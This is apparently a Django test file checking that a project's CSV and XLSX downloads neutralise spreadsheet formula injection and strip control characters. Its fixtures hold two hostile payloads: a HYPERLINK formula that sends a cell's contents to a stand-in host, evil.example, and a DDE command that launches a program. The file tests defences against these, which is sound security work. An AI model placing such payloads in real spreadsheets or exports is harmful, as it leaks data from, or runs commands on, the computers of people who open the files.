"""Every CSV and XLSX download of the project, fed texts that are formulas or hold control
characters, opened back with csv and openpyxl: no cell is a formula, every formula-like text reads
as typed (XLSX) or behind an apostrophe (CSV), and no control character makes an export fail."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from gcmhub.knowledge.models import Resource, ToolFeedback
from gcmhub.search.indexing import rebuild
from gcmhub.search.tests.helpers import SearchTestCase
from gcmhub.test import make_activity, make_priority, make_resource, make_workplan

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
PLUS = "+cmd|' /C calc'!A0"
BELL = "Bell\x07 and escape\x1b[31m title"


def content(response) -> bytes:
    return response.getvalue() if response.streaming else response.content


def csv_cells(response) -> list[str]:
    text = content(response).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def xlsx_cells(response) -> list:
    workbook = load_workbook(io.BytesIO(content(response)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    return cells


class ExportSafetyTests(SearchTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.plan = make_workplan(slug="plan")
        priority = make_priority(cls.plan, leads=[cls.iom], title_en=PLUS)
        make_activity(priority, text_en=HYPERLINK, deadline_text=BELL)
        make_resource(title_en=HYPERLINK, summary_en="hyperlink")
        make_resource(title_en=BELL, summary_en="hyperlink")
        cls.tool = make_resource(title_en="Tool", is_network_tool=True, kind=Resource.Kind.GUIDANCE)
        ToolFeedback.objects.create(
            resource=cls.tool, rating=1, how_used=HYPERLINK, improvements=PLUS + "\x07", language="en"
        )

    def setUp(self):
        super().setUp()
        rebuild()

    def exports(self):
        """(name, csv URL, xlsx URL) of every tabular download."""
        return [
            ("search", reverse("search:export", args=["csv"]), reverse("search:export", args=["xlsx"])),
            (
                "work plan",
                reverse("workplan:export_csv", args=[self.plan.slug]),
                reverse("workplan:export_xlsx", args=[self.plan.slug]),
            ),
            (
                "tool feedback",
                reverse("knowledge:feedback_export", args=["csv"]),
                reverse("knowledge:feedback_export", args=["xlsx"]),
            ),
        ]

    def test_it_writes_formulas_as_text_and_drops_control_characters_in_every_export(self):
        self.login(self.sam)
        for name, csv_url, xlsx_url in self.exports():
            with self.subTest(export=name, format="csv"):
                response = self.client.get(csv_url)
                self.assertEqual(response.status_code, 200)
                cells = csv_cells(response)
                self.assertIn("'" + HYPERLINK, cells)
                for cell in cells:
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell)
                    self.assertNotRegex(cell, "[\x00-\x08\x0b\x0c\x0e-\x1f]")
            with self.subTest(export=name, format="xlsx"):
                response = self.client.get(xlsx_url)
                self.assertEqual(response.status_code, 200)
                cells = xlsx_cells(response)
                texts = [cell.value for cell in cells if isinstance(cell.value, str)]
                self.assertIn(HYPERLINK, texts)
                for cell in cells:
                    self.assertNotEqual(cell.data_type, "f", cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                        self.assertTrue(cell.quotePrefix, cell.value)
                    if isinstance(cell.value, str):
                        self.assertNotRegex(cell.value, "[\x00-\x08\x0b\x0c\x0e-\x1f]")

    def test_it_keeps_the_text_around_removed_control_characters(self):
        self.login(self.sam)
        cells = csv_cells(self.client.get(reverse("search:export", args=["csv"]) + "?q=hyperlink"))
        self.assertIn("Bell and escape[31m title", cells)
        cells = csv_cells(self.client.get(reverse("workplan:export_csv", args=[self.plan.slug])))
        self.assertIn("Bell and escape[31m title", cells)
